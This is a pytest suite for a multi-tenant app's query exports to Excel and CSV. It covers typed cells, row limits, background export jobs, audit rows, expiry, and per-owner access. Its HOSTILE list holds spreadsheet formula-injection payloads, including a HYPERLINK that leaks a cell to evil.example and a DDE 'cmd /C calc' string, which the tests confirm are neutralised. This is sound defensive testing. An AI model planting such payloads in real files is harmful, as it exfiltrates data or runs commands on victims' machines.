"""Exports of a query's result: Excel with typed cells and the question in words, CSV, the row limit refused in words,
large exports on the worker with their progress and audit row, and each export its owner's alone.

Runs against :mod:`tests.query_world` (acme's three customers, northwind's secret one), plus a customer of acme whose
tickets a spreadsheet would take for formulas.
"""

from __future__ import annotations

import csv
import functools
import io
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from flask import Flask
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rq import SimpleWorker
from sqlalchemy import func, insert, select

from tests.conftest import MadeUser, TenantFixture
from tests.query_world import MARK, NOW, TODAY, World, only_world, world
from tests.test_query import FAILING_WITHOUT_OPEN_TICKET, TOUR
from vectis.audit.actors import Actor
from vectis.models import AuditEntry, Connection, Customer, QueryExport, Ticket, User
from vectis.platform import db
from vectis.platform.crypto import Sealed
from vectis.platform.queues import queue, redis
from vectis.query import exports, run
from vectis.query.allowlist import Kind
from vectis.query.describe import describe
from vectis.query.export import (
    EXCEL_CELL_CHARS,
    EXCEL_ROWS,
    FORMULA_STARTS,
    Details,
    TooManyRows,
    check_fits,
    write_csv,
    write_xlsx,
)
from vectis.query.spec import MAX_LIMIT, Spec, parse
from vectis.retention.purge import purge_tenant


@pytest.fixture
def acme_world(app: Flask, acme: TenantFixture, northwind: TenantFixture) -> Iterator[World]:
    world(app, northwind.id, secret=True)
    with app.app_context():
        yield world(app, acme.id)


def leaf(field: str, op: str, value: Any = None) -> dict[str, Any]:
    return {"type": "leaf", "field": field, "op": op, **({"value": value} if value is not None else {})}


CONTRACTS = {
    "base": "contracts",
    "joins": [{"from": "contracts", "to": "customers", "mode": "with"}],
    "columns": [
        {"field": "customers.name"},
        {"field": "contracts.name"},
        {"field": "contracts.status"},
        {"field": "contracts.ends_on"},
        {"field": "contracts.monthly_value"},
        {"field": "contracts.days_to_renewal"},
    ],
    "where": only_world(),
    "sort": [{"column": 1, "dir": "asc"}],
}
# name -> (status, days to renewal, monthly value), as tests/query_world.py made them
CONTRACTS_KNOWN = {
    "Aldridge Backup": ("active", 40, Decimal(1000)),
    "Aldridge MSA": ("active", 12, Decimal(3200)),
    "Bayside MSA": ("active", 21, Decimal(1400)),
    "Bayside Old": ("expired", -30, Decimal(500)),
}
TICKETS = {
    "base": "tickets",
    "joins": [{"from": "tickets", "to": "customers", "mode": "with"}],
    "columns": [{"field": "tickets.number"}, {"field": "tickets.closed"}, {"field": "tickets.opened_at"}],
    "where": only_world(),
    "sort": [{"column": 0, "dir": "asc"}],
}
TICKETS_OPENED = {"QW-1": 2, "QW-2": 10, "QW-3": 40, "QW-4": 3}  # days ago
TICKETS_CLOSED = {"QW-1": False, "QW-2": False, "QW-3": True, "QW-4": True}

FORMULA_MARK = "QX "  # not the world's marker: the world's own tests count its tickets
# What a spreadsheet would run, and what would break (or rewrite) an XML file written carelessly.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1 555 0100 cmd",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "<r><t>shaped like a rich string</t></r>",
    '</t></is></c><c r="Z1"><f>1+1</f></c><c><is><t>',
    "Tom & Jerry <tom@example.test>",
    "  leading and trailing spaces  ",
    "Fünf Größen, 東京, emoji 🚀",
]


@functools.cache
def formula_customer(app: Flask, tenant_id: int) -> int:
    """A customer of ``tenant_id`` whose tickets' summaries are :data:`HOSTILE`, numbered QX-0, QX-1, ..."""
    with app.app_context(), db.tenant_session(tenant_id) as s:
        psa = s.scalar(select(Connection.id).where(Connection.vendor == "connectwise"))
        if psa is None:
            connection = Connection(
                tenant_id=tenant_id, vendor="connectwise", name="ConnectWise", config=Sealed.seal(tenant_id, {})
            )
            s.add(connection)
            s.flush()
            psa = connection.id
        customer = Customer(tenant_id=tenant_id, name=FORMULA_MARK + "=Formula Ltd", normalized_name="qx formula ltd")
        s.add(customer)
        s.flush()
        s.add_all(
            Ticket(
                tenant_id=tenant_id, connection_id=psa, customer_id=customer.id, external_id=f"QX-{n}",
                summary=summary, status_name="New", closed=n % 2 == 1, opened_at=NOW, vendor_updated_at=NOW,
            )
            for n, summary in enumerate(HOSTILE)
        )  # fmt: skip
        return customer.id


HOSTILE_TICKETS = {
    "base": "tickets",
    "joins": [{"from": "tickets", "to": "customers", "mode": "with"}],
    "columns": [{"field": "customers.name"}, {"field": "tickets.number"}, {"field": "tickets.summary"}],
    "where": {"type": "group", "match": "all", "items": [leaf("customers.name", "starts_with", FORMULA_MARK)]},
    "sort": [{"column": 1, "dir": "asc"}],
}


def admin(app: Flask, tenant: TenantFixture) -> Actor:
    with app.app_context(), db.tenant_session(tenant.id) as s:
        user = s.get(User, tenant.users[tenant.admin])
        assert user is not None
        return Actor.for_user(user)


def actor_of(app: Flask, made: MadeUser) -> Actor:
    with app.app_context(), db.tenant_session(made.tenant.id) as s:
        user = s.get(User, made.id)
        assert user is not None
        return Actor.for_user(user)


def export(
    app: Flask, tenant_id: int, actor: Actor, raw: dict[str, Any], fmt: str, **options: Any
) -> exports.Download | QueryExport:
    with app.app_context(), db.tenant_session(tenant_id) as s:
        started = exports.start(s, tenant_id=tenant_id, actor=actor, spec=parse(raw), fmt=fmt, now=NOW, **options)
        if isinstance(started, QueryExport):
            s.expunge(started)
        return started


def last_seq(app: Flask, tenant_id: int) -> int:
    """The tenant's newest audit row: a test reads only the rows it made after it (others export the same specs)."""
    with app.app_context(), db.tenant_session(tenant_id) as s:
        return s.scalar(select(func.max(AuditEntry.seq))) or 0


def audit_rows(app: Flask, tenant_id: int, spec: Spec, after: int) -> list[AuditEntry]:
    with app.app_context(), db.tenant_session(tenant_id) as s:
        found = list(
            s.scalars(
                select(AuditEntry)
                .where(
                    AuditEntry.action == "query.export",
                    AuditEntry.payload["spec_hash"].astext == spec.hash,
                    AuditEntry.seq > after,
                )
                .order_by(AuditEntry.seq)
            )
        )
        s.expunge_all()
        return found


def workbook(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


def sheet_rows(sheet: Any) -> list[tuple[Any, ...]]:
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


# --- Excel ------------------------------------------------------------------------------------------------------


def test_it_exports_typed_cells_under_a_frozen_filtered_header(
    app: Flask, acme_world: World, acme: TenantFixture
) -> None:
    spec, before = parse(CONTRACTS), last_seq(app, acme.id)
    download = export(app, acme.id, admin(app, acme), CONTRACTS, "xlsx")
    assert isinstance(download, exports.Download)  # four rows: written during the request
    assert download.content_type == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert download.file_name == f"vectis-contracts-{NOW:%Y-%m-%d-%H%M}.xlsx" and download.rows == 4
    book = workbook(download.data)
    assert book.sheetnames == ["Results", "Query"]
    results = book["Results"]
    assert results.freeze_panes == "A2"
    assert results.auto_filter.ref == "A1:F5"
    header = [cell for cell in next(results.iter_rows(max_row=1))]
    assert [c.value for c in header] == [
        "Customer",
        "Contract",
        "Status",
        "Renews on",
        "Monthly value",
        "Renews in (days)",
    ]
    assert all(c.font.b for c in header)
    body = list(results.iter_rows(min_row=2))
    assert len(body) == 4 == results.max_row - 1
    for customer, name, status, ends_on, value, days in body:
        known_status, known_days, known_value = CONTRACTS_KNOWN[name.value]
        assert customer.value.startswith(MARK) and customer.data_type == "s"
        assert status.value == known_status
        assert ends_on.value == datetime.combine(TODAY + timedelta(days=known_days), datetime.min.time())
        assert ends_on.is_date and ends_on.number_format == "yyyy-mm-dd"
        assert value.value == float(known_value) and value.data_type == "n" and value.number_format == "#,##0.00"
        assert days.value == known_days and days.data_type == "n"
    assert [row[1].value for row in body] == sorted(CONTRACTS_KNOWN)
    # The Query sheet: the question in words, then when, how many, how long, by whom and which query.
    query = dict((label, value) for label, value in sheet_rows(book["Query"]) if label)
    lines = [value for _, value in sheet_rows(book["Query"])][: len(describe(spec))]
    assert lines == describe(spec)
    assert query["Run at (UTC)"] == NOW.replace(tzinfo=None, microsecond=0)
    assert query["Rows"] == 4 and query["Query hash"] == spec.hash
    assert query["Run by"].endswith(f"({acme.admin})")
    assert query["Duration"].endswith((" ms", " s"))
    (audited,) = audit_rows(app, acme.id, spec, before)
    assert audited.actor_id == str(acme.users[acme.admin]) and audited.result == "ok"
    assert audited.payload["rows"] == 4 and audited.payload["format"] == "xlsx"
    assert audited.payload["milliseconds"] == download.milliseconds >= 0
    assert audited.payload["where"] == "request"


def test_instants_are_utc_dates_and_times_and_yes_no_are_booleans(
    app: Flask, acme_world: World, acme: TenantFixture
) -> None:
    download = export(app, acme.id, admin(app, acme), TICKETS, "xlsx")
    assert isinstance(download, exports.Download)
    results = workbook(download.data)["Results"]
    assert [c.value for c in next(results.iter_rows(max_row=1))] == ["Ticket #", "Closed", "Opened (UTC)"]
    body = list(results.iter_rows(min_row=2))
    assert [row[0].value for row in body] == sorted(TICKETS_OPENED)
    for number, closed, opened in body:
        assert closed.data_type == "b" and closed.value is TICKETS_CLOSED[number.value]
        assert opened.is_date and opened.number_format == "yyyy-mm-dd hh:mm"
        expected = (NOW - timedelta(days=TICKETS_OPENED[number.value])).replace(tzinfo=None)
        assert abs(opened.value - expected) < timedelta(milliseconds=1)


def test_text_is_always_text_never_a_formula_or_markup(app: Flask, acme: TenantFixture) -> None:
    formula_customer(app, acme.id)
    download = export(app, acme.id, admin(app, acme), HOSTILE_TICKETS, "xlsx")
    assert isinstance(download, exports.Download)
    results = workbook(download.data)["Results"]
    cells = [cell for row in results.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    summaries = [row[2] for row in results.iter_rows(min_row=2)]
    assert [c.value for c in summaries] == HOSTILE
    assert {c.data_type for c in summaries} == {"s"}
    assert {row[0] for row in sheet_rows(results)[1:]} == {FORMULA_MARK + "=Formula Ltd"}


def test_a_label_shaped_like_markup_stays_a_label() -> None:
    """xlsxwriter writes a string that looks like its own rich-string XML into the file as it is; a column's name
    (the user's) or a line of the question goes through a path that escapes it."""
    label = "<r><t>Injected</t></r>"
    out = io.BytesIO()
    headers = [run.Header(label, Kind.TEXT), run.Header("Plain", Kind.NUMBER)]
    write_xlsx(headers, [("x", 1)], out, Details([label], "0" * 16, "Ada (ada@acme.test)", NOW))
    book = workbook(out.getvalue())
    assert [c.value for c in next(book["Results"].iter_rows(max_row=1))] == [label, "Plain"]
    assert sheet_rows(book["Query"])[0] == ("Question", label)


def test_a_text_longer_than_a_cell_holds_is_cut_to_fit_and_the_query_sheet_says_so() -> None:
    out = io.BytesIO()
    long = "a" * (EXCEL_CELL_CHARS + 100)
    written = write_xlsx(
        [run.Header("Text", Kind.TEXT)], [(long,), ("short",)], out, Details(["q"], "0" * 16, "me", NOW)
    )
    assert written.rows == 2 and written.cut_cells == 1
    book = workbook(out.getvalue())
    first = book["Results"]["A2"].value
    assert len(first) == EXCEL_CELL_CHARS and first.endswith("…") and first.startswith("aaa")
    assert any("1 cells held more than Excel's 32,767 characters" in str(v) for v in sheet_rows(book["Query"]))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.text(
            alphabet=st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"),
            max_size=60,
        ).filter(lambda t: "_x" not in t),  # Excel's own escape, which openpyxl does not read back
        min_size=1,
        max_size=20,
    )
)
def test_any_text_reads_back_as_written(texts: list[str]) -> None:
    out = io.BytesIO()
    write_xlsx([run.Header("Text", Kind.TEXT)], [(t,) for t in texts], out, Details(["q"], "0" * 16, "me", NOW))
    read = [row[0] for row in sheet_rows(workbook(out.getvalue())["Results"])[1:]]
    # An empty text is an empty cell; openpyxl stops at the last row holding a value.
    assert read == [t or None for t in texts][: len(read)] and all(t == "" for t in texts[len(read) :])
    out = io.BytesIO()
    assert write_csv([run.Header("Text", Kind.TEXT)], [(t,) for t in texts], out).rows == len(texts)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))[1:]
    assert [row[0] for row in rows] == ["'" + t if t.startswith(FORMULA_STARTS) else t for t in texts]


def test_progress_is_reported_as_the_rows_are_written() -> None:
    seen: list[int] = []
    headers = [run.Header("N", Kind.NUMBER)]
    details = Details(["q"], "0" * 16, "me", NOW)
    rows = [(n,) for n in range(7)]
    assert write_xlsx(headers, rows, io.BytesIO(), details, seen.append, progress_every=2).rows == 7
    assert seen == [2, 4, 6]
    seen.clear()
    assert write_csv(headers, rows, io.BytesIO(), seen.append, progress_every=3).rows == 7
    assert seen == [3, 6]


# --- CSV --------------------------------------------------------------------------------------------------------


def test_a_csv_export_reads_back_with_the_csv_module(app: Flask, acme_world: World, acme: TenantFixture) -> None:
    before = last_seq(app, acme.id)
    download = export(app, acme.id, admin(app, acme), CONTRACTS, "csv")
    assert isinstance(download, exports.Download) and download.content_type == "text/csv; charset=utf-8"
    assert download.data.startswith(b"\xef\xbb\xbf")  # so Excel reads the accents right
    header, *rows = list(csv.reader(io.StringIO(download.data.decode("utf-8-sig"), newline="")))
    assert header == ["Customer", "Contract", "Status", "Renews on", "Monthly value", "Renews in (days)"]
    assert {row[1]: (row[2], row[3], row[4], row[5]) for row in rows} == {
        name: (status, (TODAY + timedelta(days=days)).isoformat(), f"{value:.2f}", str(days))
        for name, (status, days, value) in CONTRACTS_KNOWN.items()
    }
    tickets = export(app, acme.id, admin(app, acme), TICKETS, "csv")
    assert isinstance(tickets, exports.Download)
    header, *rows = list(csv.reader(io.StringIO(tickets.data.decode("utf-8-sig"), newline="")))
    assert header == ["Ticket #", "Closed", "Opened (UTC)"]
    assert rows[0] == ["QW-1", "false", f"{NOW - timedelta(days=2):%Y-%m-%d %H:%M:%S}"]
    (audited,) = audit_rows(app, acme.id, parse(TICKETS), before)
    assert audited.payload["format"] == "csv" and audited.payload["rows"] == 4


def test_a_csv_export_defuses_what_a_spreadsheet_would_run(app: Flask, acme: TenantFixture) -> None:
    formula_customer(app, acme.id)
    download = export(app, acme.id, admin(app, acme), HOSTILE_TICKETS, "csv")
    assert isinstance(download, exports.Download)
    _, *rows = list(csv.reader(io.StringIO(download.data.decode("utf-8-sig"), newline="")))
    summaries = [row[2] for row in rows]
    assert summaries[:5] == ["'" + text for text in HOSTILE[:5]]  # = + - @ and a tab: prefixed with a quote
    assert summaries[5:] == HOSTILE[5:]  # the rest as they are
    assert {row[0] for row in rows} == {FORMULA_MARK + "=Formula Ltd"}  # an "=" inside is no formula


def test_numbers_stay_numbers_in_csv_even_negative() -> None:
    out = io.BytesIO()
    headers = [run.Header("Days", Kind.NUMBER), run.Header("Value", Kind.MONEY), run.Header("On", Kind.DATE)]
    write_csv(headers, [(-30, Decimal("-12.50"), date(2026, 1, 2)), (None, None, None)], out)
    assert out.getvalue().decode("utf-8-sig").splitlines() == ["Days,Value,On", "-30,-12.50,2026-01-02", ",,"]


# --- the row limit ----------------------------------------------------------------------------------------------


def test_more_rows_than_a_sheet_holds_are_refused_in_words() -> None:
    with pytest.raises(TooManyRows) as refused:
        check_fits(EXCEL_ROWS + 1, "xlsx")
    message = str(refused.value)
    assert "1,048,576 rows" in message and "1,048,575 rows below its header" in message
    assert "Add a condition" in message and "CSV, which has no row limit" in message
    check_fits(EXCEL_ROWS, "xlsx")  # exactly a sheet: fits
    assert EXCEL_ROWS == MAX_LIMIT  # and a spec's own row limit never asks for more
    check_fits(5_000_000, "csv")  # CSV has no limit


def test_an_export_over_the_limit_is_refused_before_anything_is_written_or_queued(
    app: Flask, acme_world: World, acme: TenantFixture
) -> None:
    spec, before = parse(CONTRACTS), last_seq(app, acme.id)
    with app.app_context():
        exports_queue = queue("exports")
        exports_queue.empty()  # type: ignore[no-untyped-call]
        exported = _exports_of(app, acme.id, spec)
        with pytest.raises(TooManyRows, match="This result has 4 rows, and an Excel sheet holds 3 rows"):
            export(app, acme.id, admin(app, acme), CONTRACTS, "xlsx", excel_rows=3, inline_rows=0)
        with pytest.raises(TooManyRows):
            export(app, acme.id, admin(app, acme), CONTRACTS, "xlsx", excel_rows=3)
        assert _exports_of(app, acme.id, spec) == exported and exports_queue.count == 0
        assert audit_rows(app, acme.id, spec, before) == []  # nothing was exported
        csv_download = export(app, acme.id, admin(app, acme), CONTRACTS, "csv", excel_rows=3)
        assert isinstance(csv_download, exports.Download) and csv_download.rows == 4


def test_rows_that_arrive_past_the_limit_stop_the_workbook_rather_than_cut_it() -> None:
    """Rows added between the count and the export: the writer counts too, and refuses."""
    with pytest.raises(TooManyRows, match="more than 3 rows"):
        write_xlsx(
            [run.Header("N", Kind.NUMBER)], [(n,) for n in range(4)], io.BytesIO(), Details([], "", "", NOW), limit=3
        )


def _exports_of(app: Flask, tenant_id: int, spec: Spec) -> list[int]:
    with app.app_context(), db.tenant_session(tenant_id) as s:
        return list(s.scalars(select(QueryExport.id).where(QueryExport.spec_hash == spec.hash)))


# --- large exports on the worker --------------------------------------------------------------------------------


def work_exports(app: Flask) -> None:
    with app.app_context():
        SimpleWorker([queue("exports")], connection=redis()).work(burst=True)


def test_a_large_export_runs_on_the_worker_with_progress_a_download_and_an_audit_row(
    app: Flask, acme_world: World, acme: TenantFixture
) -> None:
    spec, before = parse(CONTRACTS), last_seq(app, acme.id)
    owner = acme.users[acme.admin]
    queued = export(app, acme.id, admin(app, acme), CONTRACTS, "xlsx", inline_rows=2)  # 4 rows: "large"
    assert isinstance(queued, QueryExport) and queued.state == "queued" and queued.rows_total == 4
    with app.app_context(), db.tenant_session(acme.id) as s:
        waiting = exports.status(s, queued.id, user_id=owner)
        assert waiting is not None and waiting.running and waiting.percent == 0 and not waiting.ready
        assert queue("exports").fetch_job(f"query-export-{queued.id}") is not None
    work_exports(app)
    with app.app_context(), db.tenant_session(acme.id) as s:
        done = exports.status(s, queued.id, user_id=owner)
        assert done is not None and done.state == "done" and done.ready and not done.running
        assert done.rows_written == done.rows_total == 4 and done.percent == 100
        assert done.message is not None and done.message.startswith("4 rows in ")
        stored = exports.read(s, queued.id, user_id=owner)
        assert stored is not None and stored.file_name == done.file_name and stored.file_name.endswith(".xlsx")
        data = b"".join(stored.chunks(s, size=1000))  # slices, as a streamed download reads it
    assert len(data) == stored.size > 3000
    results = workbook(data)["Results"]
    assert sorted(row[1] for row in sheet_rows(results)[1:]) == sorted(CONTRACTS_KNOWN)
    (audited,) = audit_rows(app, acme.id, spec, before)
    assert audited.actor_id == str(owner) and audited.result == "ok"
    assert audited.payload["rows"] == 4 and audited.payload["spec_hash"] == spec.hash
    assert audited.payload["milliseconds"] >= 0
    assert audited.payload["where"] == "worker" and audited.payload["export_id"] == queued.id
    with app.app_context():  # the same job again (a retry, a duplicate): the export is no longer queued
        assert exports.run_export(acme.id, queued.id) == "not queued"
    assert len(audit_rows(app, acme.id, spec, before)) == 1


def test_a_csv_export_on_the_worker(app: Flask, acme_world: World, acme: TenantFixture) -> None:
    queued = export(app, acme.id, admin(app, acme), TICKETS, "csv", inline_rows=1)
    assert isinstance(queued, QueryExport)
    work_exports(app)
    with app.app_context(), db.tenant_session(acme.id) as s:
        stored = exports.read(s, queued.id, user_id=acme.users[acme.admin])
        assert stored is not None and stored.content_type == "text/csv; charset=utf-8"
        text = b"".join(stored.chunks(s)).decode("utf-8-sig")
    assert [row[0] for row in csv.reader(io.StringIO(text, newline=""))] == ["Ticket #", *sorted(TICKETS_OPENED)]


MANY = 5_100  # more than run.stream fetches at a time (5,000): the cursor is read again after progress commits


@functools.cache
def many_tickets(app: Flask, tenant_id: int) -> int:
    """A customer of ``tenant_id`` with :data:`MANY` tickets."""
    formula_customer(app, tenant_id)  # its ConnectWise connection
    with app.app_context(), db.tenant_session(tenant_id) as s:
        psa = s.scalar(select(Connection.id).where(Connection.vendor == "connectwise"))
        customer = Customer(tenant_id=tenant_id, name="QY Many Tickets", normalized_name="qy many tickets")
        s.add(customer)
        s.flush()
        s.execute(
            insert(Ticket),
            [
                {"tenant_id": tenant_id, "connection_id": psa, "customer_id": customer.id, "external_id": f"QY-{n}",
                 "summary": f"Ticket {n}", "status_name": "New", "opened_at": NOW, "vendor_updated_at": NOW}
                for n in range(MANY)
            ],
        )  # fmt: skip
        return customer.id


def test_progress_commits_beside_the_open_cursor_of_the_rows(app: Flask, acme: TenantFixture) -> None:
    """The progress is committed from a session of its own while the rows still stream from the server-side cursor
    of another (a commit in that one would close the cursor before its second batch): the export finishes whole,
    and its progress ends at its rows."""
    many_tickets(app, acme.id)
    raw = {
        "base": "tickets",
        "joins": [{"from": "tickets", "to": "customers", "mode": "with"}],
        "columns": [{"field": "tickets.number"}, {"field": "tickets.opened_at"}],
        "where": {"type": "group", "match": "all", "items": [leaf("customers.name", "is", "QY Many Tickets")]},
    }
    queued = export(app, acme.id, admin(app, acme), raw, "csv", inline_rows=0)
    assert isinstance(queued, QueryExport) and queued.rows_total == MANY
    with app.app_context():
        queue("exports").empty()  # type: ignore[no-untyped-call]  # run here instead, reporting every 1,000 rows
        assert exports.run_export(acme.id, queued.id, progress_every=1_000) == f"{MANY} rows"
        with db.tenant_session(acme.id) as s:
            done = exports.status(s, queued.id, user_id=acme.users[acme.admin])
            stored = exports.read(s, queued.id, user_id=acme.users[acme.admin])
            assert stored is not None
            lines = b"".join(stored.chunks(s)).decode("utf-8-sig").splitlines()
    assert done is not None and done.state == "done" and done.rows_written == done.rows_total == MANY
    assert len(lines) == MANY + 1


def _queued_row(app: Flask, tenant_id: int, user_id: int | None, raw: dict[str, Any], **columns: Any) -> int:
    """A queued export as start() leaves it, with ``raw`` as its spec whatever it says."""
    with app.app_context(), db.tenant_session(tenant_id) as s:
        row = QueryExport(
            tenant_id=tenant_id, user_id=user_id, spec=raw, spec_hash="f" * 16, format="xlsx",
            rows_total=1, created_at=NOW, expires_at=NOW + exports.KEPT, **{"state": "queued", **columns},
        )  # fmt: skip
        s.add(row)
        s.flush()
        return row.id


def test_an_export_that_cannot_run_fails_with_a_reason(app: Flask, acme: TenantFixture, make_user: Any) -> None:
    owner = acme.users[acme.admin]
    gone = _queued_row(app, acme.id, owner, {"base": "customers", "columns": [{"field": "customers.password_hash"}]})
    nobody = _queued_row(app, acme.id, None, dict(CONTRACTS))
    with app.app_context():
        assert exports.run_export(acme.id, gone).startswith("failed")
        assert exports.run_export(acme.id, nobody).startswith("failed")
        with db.tenant_session(acme.id) as s:
            failed = exports.status(s, gone, user_id=owner)
            assert failed is not None and failed.state == "failed" and not failed.running
            assert failed.message == "This query can no longer run: Column 1: Customers has no column “password_hash”."
            with pytest.raises(exports.ExportUnavailable, match="can no longer run"):
                exports.read(s, gone, user_id=owner)
            orphan = s.get(QueryExport, nobody)
            assert orphan is not None and orphan.message is not None and "no longer has an account" in orphan.message


def test_an_export_whose_worker_was_lost_stops_polling(app: Flask, acme: TenantFixture) -> None:
    owner = acme.users[acme.admin]
    lost = _queued_row(app, acme.id, owner, dict(CONTRACTS), state="running", started_at=NOW)
    with app.app_context(), db.tenant_session(acme.id) as s:
        still = exports.status(s, lost, user_id=owner, now=NOW + timedelta(minutes=1))
        assert still is not None and still.running
        later = exports.status(s, lost, user_id=owner, now=NOW + exports.STALE_AFTER + timedelta(seconds=1))
        assert later is not None and later.state == "failed" and later.message == exports.INTERRUPTED


def test_an_export_expires_after_a_day_and_the_nightly_purge_removes_it(
    app: Flask, acme_world: World, acme: TenantFixture
) -> None:
    owner = acme.users[acme.admin]
    queued = export(app, acme.id, admin(app, acme), CONTRACTS, "csv", inline_rows=0)
    assert isinstance(queued, QueryExport)
    work_exports(app)
    expired = queued.expires_at + timedelta(seconds=1)
    with app.app_context(), db.tenant_session(acme.id) as s:
        assert queued.expires_at == NOW + timedelta(hours=24)
        assert exports.read(s, queued.id, user_id=owner, now=queued.expires_at - timedelta(seconds=1)) is not None
        with pytest.raises(exports.ExportUnavailable, match=r"expired .* Export the query again"):
            exports.read(s, queued.id, user_id=owner, now=expired)
        gone = exports.status(s, queued.id, user_id=owner, now=expired)
        assert gone is not None and gone.expired and not gone.ready
    with app.app_context(), db.tenant_session(acme.id) as s:
        purged = purge_tenant(s, acme.id, now=expired)
    assert purged.expired_exports >= 1
    with app.app_context(), db.tenant_session(acme.id) as s:
        assert exports.status(s, queued.id, user_id=owner) is None


# --- whose export it is -----------------------------------------------------------------------------------------


def test_an_export_is_its_owners_alone(
    app: Flask,
    acme_world: World,
    acme: TenantFixture,
    northwind: TenantFixture,
    make_user: Callable[..., MadeUser],
) -> None:
    owner = acme.users[acme.admin]
    queued = export(app, acme.id, admin(app, acme), CONTRACTS, "xlsx", inline_rows=0)
    assert isinstance(queued, QueryExport)
    work_exports(app)
    colleague = make_user(acme, "admin")
    with app.app_context():
        with db.tenant_session(northwind.id) as s:
            # Row-level security: to northwind's session the row does not exist, whoever asks.
            assert s.get(QueryExport, queued.id) is None
            assert s.scalars(select(QueryExport.id).where(QueryExport.id == queued.id)).all() == []
            assert exports.status(s, queued.id, user_id=owner) is None
            assert exports.read(s, queued.id, user_id=owner) is None
        with db.tenant_session(acme.id) as s:
            assert exports.status(s, queued.id, user_id=colleague.id) is None  # even an admin of the same workspace
            assert exports.read(s, queued.id, user_id=colleague.id) is None
            assert exports.read(s, queued.id, user_id=None) is None
            assert exports.read(s, queued.id, user_id=owner) is not None
    # And northwind's own export of the same question holds northwind's rows only.
    theirs = export(app, northwind.id, admin(app, northwind), CONTRACTS, "csv")
    assert isinstance(theirs, exports.Download)
    _, *rows = list(csv.reader(io.StringIO(theirs.data.decode("utf-8-sig"), newline="")))
    assert [row[1] for row in rows] == ["Secret MSA"]


def test_only_a_signed_in_user_can_start_an_export(app: Flask, acme_world: World, acme: TenantFixture) -> None:
    with pytest.raises(ValueError, match="only a signed-in user"):
        export(app, acme.id, Actor.system(), CONTRACTS, "xlsx")
    with pytest.raises(ValueError, match="unknown export format"):
        export(app, acme.id, admin(app, acme), CONTRACTS, "pdf")


# --- the question in words --------------------------------------------------------------------------------------


def test_describe_says_the_tours_question_in_words() -> None:
    assert describe(parse(TOUR)) == [
        "From customers",
        "Customers only with backup jobs",
        "Backup jobs only with backup runs",
        "Customers only with contracts",
        "Columns: Customer, Last backup failure, Renews in (days), Contract value",
        "Where all of these hold:",
        f"  Customer starts with “{MARK.strip()}”",
        "  Backup run result is one of failed",
        "  Backup run started in the last 30 days",
        "  Contract status is one of active",
        "One row for each Customer",
        "  Last backup failure: most recent started of backup runs",
        "  Renews in (days): lowest renews in (days) of contracts",
        "  Contract value: total monthly value of contracts, each contract once",
        "Sorted by Renews in (days), smallest first",
    ]


def test_describe_puts_an_only_without_joins_conditions_on_its_line() -> None:
    lines = describe(parse(FAILING_WITHOUT_OPEN_TICKET))
    assert "Customers only without tickets where Ticket closed is no" in lines
    assert "  Backup job state is one of failed" in lines
    assert not any(line.strip() == "Ticket closed is no" for line in lines)


def test_describe_nests_groups_and_says_values_sort_and_limit() -> None:
    raw = {
        "base": "contracts",
        "columns": [{"field": "contracts.name"}, {"field": "contracts.*", "agg": "count"}],
        "where": {
            "type": "group",
            "match": "any",
            "items": [
                {
                    "type": "group",
                    "match": "all",
                    "items": [
                        leaf("contracts.monthly_value", "between", [1000, "2500.5"]),
                        leaf("contracts.ends_on", "next_days", 30),
                        {"type": "group", "match": "any", "items": []},  # empty: says nothing
                    ],
                },
                leaf("contracts.starts_on", "before", "2026-01-31"),
                leaf("contracts.type", "is_empty"),
            ],
        },
        "sort": [{"column": 1, "dir": "desc"}, {"column": 0, "dir": "asc"}],
        "limit": 2500,
    }
    assert describe(parse(raw)) == [
        "From contracts",
        "Columns: Contract, Number of contracts",
        "Where any of these holds:",
        "  All of these hold:",
        "    Contract monthly value between 1,000 and 2,500.5",
        "    Contract renews on in the next 30 days",
        "  Contract starts on before 2026-01-31",
        "  Contract type is empty",
        "One row for each Contract",
        "  Number of contracts: the number of contracts, each contract once",
        "Sorted by Number of contracts, largest first, then Contract, A to Z",
        "At most 2,500 rows",
    ]
    assert describe(parse({"base": "tickets", "columns": [{"field": "tickets.number"}]}))[-1] == (
        "Every row: no conditions"
    )


def test_an_export_started_at_a_moment_is_named_for_it() -> None:
    at = datetime(2026, 12, 7, 10, 15, tzinfo=UTC)
    assert exports.file_name(parse(TICKETS), "csv", at) == "vectis-tickets-2026-12-07-1015.csv"
    contract_lines = parse({"base": "contract_lines", "columns": [{"field": "contract_lines.product"}]})
    assert exports.file_name(contract_lines, "xlsx", at) == "vectis-contract-line-items-2026-12-07-1015.xlsx"
